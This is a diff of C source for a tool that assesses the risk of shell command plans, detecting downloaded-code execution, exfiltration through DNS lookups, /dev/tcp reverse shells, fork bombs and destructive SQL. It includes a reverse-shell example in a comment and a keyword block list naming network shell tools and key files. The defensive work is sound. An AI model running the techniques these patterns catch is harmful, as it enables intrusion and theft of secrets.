@@ -1,13 +1,14 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* A plan held against the facts: the worst of them decides, all of them are told. */
+/* A plan held against what is known of tools: the worst decides, all of them are told. */
 #include "assess.h"
 #include "facts.h"
+#include "weigh.h"
 #include "../base/path.h"
 
 #include <string.h>
 
 /* How far an assessment can be relied on, by what is known of the plan. */
-static const double known = 0.9, partly_known = 0.7, unknown = 0.3;
+static const double known = 0.9, partly_known = 0.7, not_known = 0.5, unknown = 0.3;
 
 enum { WRAPPER_LIMIT = 64 };
 
@@ -37,15 +38,6 @@ const char *reach_name(enum reach reach)
 	return (size_t)reach < ELEMENTS(reach_names) ? reach_names[reach] : NULL;
 }
 
-/* What earlier commands of the plan have made ready for later ones. */
-struct weighing {
-	struct assessment *assessment;
-	const struct fact *worst;    /* of the command at hand */
-	const struct fact *heaviest; /* of all */
-	bool downloaded, decoded, secrets, sql;
-	const char *file; /* that a download was written to */
-};
-
 static void add_text(const char **texts, const char *text)
 {
 	for (; *texts; texts++)
@@ -54,52 +46,24 @@ static void add_text(const char **texts, const char *text)
 	*texts = text;
 }
 
-static bool is_heavier(const struct fact *fact, const struct fact *other)
+/* Tools that ask other machines, and tell them something by what they ask. */
+static bool is_asking(const char *name)
 {
-	return !other || fact->class > other->class ||
-	       (fact->class == other->class && fact->risk > other->risk);
+	return is_downloader(name) || match_one("dig host nslookup drill ping whois", name);
 }
 
-static void apply(struct weighing *weighing, const struct fact *fact)
+static bool has_substitution(const struct command *command, size_t first)
 {
-	struct assessment *assessment = weighing->assessment;
-
-	assessment->class = MAX(assessment->class, fact->class);
-	assessment->risk = MAX(assessment->risk, fact->risk);
-	assessment->reversible &= !(fact->effects & FINAL);
-	assessment->network |= (fact->effects & (NETWORK | REMOTE)) != 0;
-	assessment->remote |= (fact->effects & REMOTE) != 0;
-	if (fact->effects & FILES_HOME)
-		assessment->files = MAX(assessment->files, REACH_HOME);
-	if (fact->effects & FILES_SYSTEM)
-		assessment->files = REACH_SYSTEM;
-	add_text(assessment->categories, fact->category);
-	add_text(assessment->reasons, fact->reason);
-	if (is_heavier(fact, weighing->worst))
-		weighing->worst = fact;
-	if (is_heavier(fact, weighing->heaviest))
-		weighing->heaviest = fact;
+	for (size_t i = first + 1; i < command->argc; i++)
+		if (strstr(command->argv[i], "$(") || strchr(command->argv[i], '`'))
+			return true;
+	return false;
 }
 
-static bool is_sql_client(const char *name)
+/* A language that reads its program from the standard input. */
+static bool runs_code(const char *program)
 {
-	return match_one(
-		"psql mysql mariadb sqlite3 sqlcmd clickhouse-client duckdb redis-cli mongosh "
-		"mongo cockroach",
-		name);
-}
-
-/* The environment, or a file of secrets, on standard output. */
-static bool shows_secrets(const struct command *command, size_t first)
-{
-	const char *name = path_last(command->argv[first]);
-	bool alone = first + 1 == command->argc ||
-		     (first + 2 == command->argc && strcmp(command->argv[first + 1], "-p") == 0);
-	bool file = command->argc > first + 1 &&
-		    strcmp(path_last(command->argv[command->argc - 1]), ".env") == 0;
-
-	return (match_one("env printenv export declare set", name) && alone) ||
-	       (match_one("cat tar base64 gzip", name) && (file || reads_secret(command, first)));
+	return match_one("python python[23]* perl ruby node nodejs php lua", path_last(program));
 }
 
 /* Facts that need more than one command to be true. */
@@ -108,15 +72,19 @@ static void weigh_together(struct weighing *weighing, const struct command *comm
 	const char *name = path_last(command->argv[first]);
 
 	if (weighing->downloaded && runs_input(command, first))
-		apply(weighing, &fact_remote_code);
+		weigh_effect(weighing, EFFECT_REMOTE_CODE);
 	if (weighing->file && runs_file(command, first, weighing->file))
-		apply(weighing, &fact_remote_code);
+		weigh_effect(weighing, EFFECT_REMOTE_CODE);
 	if (weighing->decoded && runs_input(command, first))
-		apply(weighing, &fact_hidden_code);
+		weigh_effect(weighing, EFFECT_HIDDEN_CODE);
+	if (weighing->piped && is_shell(name) && runs_input(command, first))
+		weigh_effect(weighing, EFFECT_PIPED_CODE);
+	if (weighing->shown && is_asking(name) && has_substitution(command, first))
+		weigh_effect(weighing, EFFECT_SEND_DATA);
 	if (weighing->sql && is_sql_client(name))
-		apply(weighing, &fact_sql_input);
+		weigh_effect(weighing, EFFECT_DATABASE_RUIN);
 	if (weighing->secrets && sends_input(command, first))
-		apply(weighing, &fact_exfiltration);
+		weigh_effect(weighing, EFFECT_SEND_ENVIRONMENT);
 	if (is_downloader(name)) {
 		const char *file = download_file(command, first);
 
@@ -125,66 +93,89 @@ static void weigh_together(struct weighing *weighing, const struct command *comm
 			weighing->file = file;
 	}
 	weighing->decoded |= is_decoder(command, first);
+	weighing->shown |= shows_file(command, first);
 	weighing->secrets |= shows_secrets(command, first);
-	weighing->sql |= match_one("echo printf cat", name) && runs_ruinous_sql(command, first);
+	weighing->sql |= match_one("echo printf cat", name) &&
+			 holds_ruinous_sql(command, first, command->argc);
+}
+
+/* bash -i >& /dev/tcp/HOST/PORT */
+static bool is_connection(const char *target)
+{
+	return match_one("/dev/tcp/* /dev/udp/*", target) &&
+	       !match_one("/dev/[tu][cd]p/localhost/* /dev/[tu][cd]p/127.*", target);
+}
+
+/* : > FILE, cat /dev/null > FILE */
+static bool prints_nothing(const struct weighing *weighing, const struct command *command)
+{
+	const char *name = command->argc ? path_last(command->argv[0]) : "";
+
+	/* no words of its own: > FILE, if it is not what a group of commands is written to */
+	return (command->argc == 0 && weighing->alone) ||
+	       (command->argc == 1 && match_one(": true", name)) ||
+	       (command->argc == 2 && match_one("cat", name) &&
+		strcmp(command->argv[1], "/dev/null") == 0);
 }
 
 static void weigh_redirects(struct weighing *weighing, const struct command *command)
 {
-	struct assessment *assessment = weighing->assessment;
-
 	for (size_t i = 0; i < command->redirect_count; i++) {
 		const struct redirect *redirect = &command->redirects[i];
 
 		if (strchr(redirect->operator, '>')) {
-			if (is_disk(redirect->target))
-				apply(weighing, &fact_disk_redirect);
-			if (!match_one("[0-9] -", redirect->target))
-				assessment->files =
-					MAX(assessment->files, path_reach(redirect->target));
-		} else if (strcmp(redirect->operator, "<") == 0 && is_secret(redirect->target)) {
-			apply(weighing, &fact_secret_redirect);
+			if (is_connection(redirect->target))
+				weigh_effect(weighing, EFFECT_SEND_DATA);
+			else if (!match_one("[0-9] -", redirect->target))
+				weigh_path(weighing, ROLE_WRITES, redirect->target, false);
+			if (strcmp(redirect->operator, ">") == 0 && redirect->fd < 2 &&
+			    prints_nothing(weighing, command) &&
+			    path_reach(redirect->target) != REACH_NONE &&
+			    is_precious(redirect->target))
+				weigh_effect(weighing, EFFECT_EMPTY_FILE);
+		} else if (strncmp(redirect->operator, "<<", 2) == 0) {
+			/* python3 <<END */
+			if (command->program < command->argc &&
+			    runs_code(command->argv[command->program]))
+				weigh_path(weighing, ROLE_CODE, redirect->target, false);
+		} else if (strcmp(redirect->operator, "<") == 0) {
+			weigh_path(weighing, ROLE_READS, redirect->target, false);
 		}
 	}
 }
 
-/* Where the files lie that tools which only handle files are given. */
-static void weigh_places(struct weighing *weighing, const struct command *command, size_t first)
+/* And nobody knows what. */
+static bool prints_something(const struct command *command, size_t first)
 {
-	struct assessment *assessment = weighing->assessment;
-	bool handles =
-		match_one("cp mv install ln touch tee mkdir rmdir chmod chown chgrp rm truncate "
-			  "rsync tar unzip sed",
+	return first < command->argc && !prints_words(command, first) &&
+	       !match_one("cd pushd popd export set unset source . mkdir touch sleep clear alias",
 			  path_last(command->argv[first]));
-
-	assessment->files = MAX(assessment->files, REACH_WORKSPACE);
-	for (size_t i = first + 1; handles && i < command->argc; i++)
-		if (command->argv[i][0] != '-')
-			assessment->files = MAX(assessment->files, path_reach(command->argv[i]));
 }
 
 /* The command itself, and the one behind each wrapper. */
 static void weigh_command(struct weighing *weighing, const struct command *command)
 {
+	struct assessment *assessment = weighing->assessment;
 	size_t first = 0;
 
+	weighing->changes = false;
 	for (size_t level = 0; first < command->argc && level <= WRAPPER_LIMIT; level++) {
 		size_t next = parse_wrapped(command, first);
 
-		for (size_t i = 0; i < fact_count; i++)
-			if (fact_matches(&facts[i], command, first))
-				apply(weighing, &facts[i]);
+		weighing->reads = false;
+		weigh_call(weighing, command, first, next ? next : command->argc);
 		weigh_together(weighing, command, first);
-		if (next == 0) {
-			if (!only_reads(command, first)) {
-				weighing->assessment->only_reads = false;
-				weigh_places(weighing, command, first);
-			}
+		if (next == 0)
 			break;
-		}
 		first = next;
 	}
+	weighing->piped = prints_something(command, first);
 	weigh_redirects(weighing, command);
+	/* words before a command alone change nothing but variables */
+	if (weighing->changes || (first < command->argc && !weighing->reads)) {
+		assessment->only_reads = false;
+		assessment->files = MAX(assessment->files, REACH_WORKSPACE);
+	}
 }
 
 static bool calls(const struct plan *plan, size_t i, const char *name)
@@ -204,38 +195,15 @@ static bool is_fork_bomb(const struct plan *plan, size_t i)
 	       calls(plan, i + 3, command->argv[1]);
 }
 
-/* A word of the kind that an unknown command line would be made of, if it were made to harm. */
-static bool holds_dangerous_word(const char *text)
-{
-	static const char dangerous[] =
-		"rm rmdir unlink shred dd mkfs wipefs blkdiscard fdisk sudo su doas pkexec curl "
-		"wget nc "
-		"ncat socat base64 base32 xxd openssl rev eval ssh scp shutdown reboot halt "
-		"poweroff "
-		"kill killall pkill chmod chown push publish destroy delete drop truncate id_rsa "
-		"id_ed25519 terraform kubectl passwd shadow crontab systemctl";
-	static const char letters[] =
-		"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-";
-
-	if (strstr(text, "$IFS") || strstr(text, "${IFS"))
-		return true; /* only used to glue words that are not to be seen */
-	while (*text) {
-		size_t length = strspn(text, letters);
-
-		if (length && parse_word_in(dangerous, text, length))
-			return true;
-		text += length ? length : 1;
-	}
-	return false;
-}
-
 static bool is_dangerous(const struct plan *plan)
 {
 	for (size_t i = 0; i < plan->count; i++) {
 		const struct command *command = &plan->commands[i];
 
+		/* a program that is known has been weighed */
 		for (size_t j = 0; j < command->argc; j++)
-			if (holds_dangerous_word(command->argv[j]))
+			if ((j != command->program || !tool_find(path_last(command->argv[j]))) &&
+			    holds_dangerous_word(command->argv[j]))
 				return true;
 		for (size_t j = 0; j < command->assignment_count; j++)
 			if (holds_dangerous_word(command->assignments[j]))
@@ -259,41 +227,44 @@ static void weigh_opacity(struct arena *arena, struct weighing *weighing, const 
 	add_text(assessment->reasons,
 		 arena_printf(arena, "not all of it could be read: %s", plan->opaque_why));
 	if (plan->opacity == OPAQUE_UNREAD)
-		apply(weighing, &fact_unread);
+		weigh_effect(weighing, EFFECT_UNREAD);
 	else if (is_dangerous(plan))
-		apply(weighing, &fact_unnamed);
+		weigh_effect(weighing, EFFECT_UNNAMED);
 }
 
 void assess_plan(struct arena *arena, const struct plan *plan, struct assessment *ret_assessment)
 {
-	enum { BESIDE_THE_TABLE = 12, END = 1 };
-	size_t most = fact_count + BESIDE_THE_TABLE + END;
+	enum { MOST_TEXTS = EFFECT_COUNT + 4 };
 	struct assessment assessment = {
-		.categories = arena_new_array(arena, const char *, most),
-		.reasons = arena_new_array(arena, const char *, most),
-		.rules = arena_new_array(arena, const char *, plan->count + END),
+		.categories = arena_new_array(arena, const char *, MOST_TEXTS),
+		.reasons = arena_new_array(arena, const char *, MOST_TEXTS),
+		.rules = arena_new_array(arena, const char *, plan->count + 1),
 		.reversible = true,
 		.only_reads = true,
 		.confidence = known,
 	};
-	struct weighing weighing = {.assessment = &assessment};
+	struct weighing weighing = {.assessment = &assessment, .alone = plan->count == 1};
 
 	for (size_t i = 0; i < plan->count; i++) {
 		weighing.worst = NULL;
 		weigh_command(&weighing, &plan->commands[i]);
 		if (is_fork_bomb(plan, i))
-			apply(&weighing, &fact_fork_bomb);
+			weigh_effect(&weighing, EFFECT_FORK_BOMB);
 		if (plan->commands[i].dynamic)
-			assessment.confidence = partly_known;
+			assessment.confidence = MIN(assessment.confidence, partly_known);
 		if (weighing.worst)
-			assessment.rules[i] = weighing.worst->name;
+			assessment.rules[i] = tool_text(weighing.worst->name);
 	}
+	if (assessment.unknown)
+		assessment.confidence = MIN(assessment.confidence, not_known);
 	if (plan->opaque)
 		weigh_opacity(arena, &weighing, plan);
-	/* What was added last is why, where no fact weighs as much as the whole. */
+	else if (weighing.hidden && is_dangerous(plan))
+		weigh_effect(&weighing, EFFECT_UNNAMED);
+	/* What was added last is why, where no effect weighs as much as the whole. */
 	for (const char **reason = assessment.reasons; *reason; reason++)
 		assessment.why = *reason;
 	if (weighing.heaviest && weighing.heaviest->class == assessment.class)
-		assessment.why = weighing.heaviest->reason;
+		assessment.why = tool_text(weighing.heaviest->reason);
 	*ret_assessment = assessment;
 }
